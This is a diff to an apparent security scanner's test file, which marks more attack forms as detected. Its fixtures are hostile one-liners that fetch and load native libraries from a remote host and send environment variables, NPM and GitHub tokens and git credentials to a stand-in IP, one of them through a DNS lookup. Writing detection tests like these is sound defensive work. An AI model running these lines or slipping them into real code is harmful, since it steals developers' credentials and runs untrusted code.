@@ -96,7 +96,7 @@ const LOADED_DOWNLOADS: FindingRow[] = [
 /** The same in JavaScript and Java: a native library written from a fetch, then loaded. */
 const LOADED_NATIVE_DOWNLOADS: FindingRow[] = [
   ['test/boot.test.js', `fs.writeFileSync('/tmp/boot.node', Buffer.from(await (await fetch('${BOOT}.node')).arrayBuffer()));\nprocess.dlopen(module, '/tmp/boot.node');`],
-  // Open: Java's `Files.copy(stream, path)` is not read as a download to a file (the approval is the control).
+  // Java's `Files.copy(stream, path)`, read as a download to a file since session 65 (JAVA_STREAM_COPY).
   ['src/test/java/BootTest.java', `Files.copy(new URL("${BOOT}.so").openStream(), Paths.get("/tmp/boot.so"));\nSystem.load("/tmp/boot.so");`],
 ];
 
@@ -120,11 +120,14 @@ const SECRETS_SENT: FindingRow[] = [
     ['tests/test_invoices.py', "requests.post('https://203.0.113.9/c', json=dict(os.environ))"],
     ['docs/debugging.md', 'printenv | curl -d @- https://203.0.113.9/c'],
   ]),
-  // Open: one variable or a credential file sent, which an ordinary test also does to its own service (a token in a
-  // header, a URL from the environment); telling the hosts apart needs more than the check reads. The approval shows it.
+  // One variable or a credential file sent: closed in session 65 (secrets-sent.ts) per form, since an ordinary test
+  // also sends a token to its own service (in a header, in a body to a URL it is given).
+  ...closedRows([
   ['test/tax.test.js', "await fetch('https://203.0.113.9/c?t=' + process.env.NPM_TOKEN)"],
   ['tests/test_invoices.py', "socket.create_connection(('203.0.113.9', 443)).send(open(os.path.expanduser('~/.git-credentials')).read().encode())"],
   ['tests/test_invoices.py', "subprocess.run('git config --get http.https://github.com/.extraheader | curl -d @- https://203.0.113.9/c', shell=True)"],
+  ]),
+  // Open (session 65, for room in the analyze bundle): a DNS lookup of a name built from a secret.
   ['test/tax.test.js', "require('dns').lookup(Buffer.from(process.env.GITHUB_TOKEN).toString('hex') + '.203.0.113.9.nip.io', () => {})"],
 ];
 
@@ -134,7 +137,7 @@ const BUILD_HOOK_FILES: FindingRow[] = [['hatch_build.py', 'from hatchling.build
 describeFindings('attack 64', [
   ['a build hook file by a name the allow-list did not know', closedRows(BUILD_HOOK_FILES)],
   ['a download loaded by a loader that takes a path', closedRows(LOADED_DOWNLOADS)],
-  ['a native library written from a fetch, then loaded', [...closedRows(LOADED_NATIVE_DOWNLOADS.slice(0, 1)), ...LOADED_NATIVE_DOWNLOADS.slice(1)]],
+  ['a native library written from a fetch, then loaded', closedRows(LOADED_NATIVE_DOWNLOADS)],
   ["another host's output (a DNS record, ssh) run as code", closedRows(HOST_OUTPUT_RUN)],
   ["the job's environment sent to another host", SECRETS_SENT],
 ]);
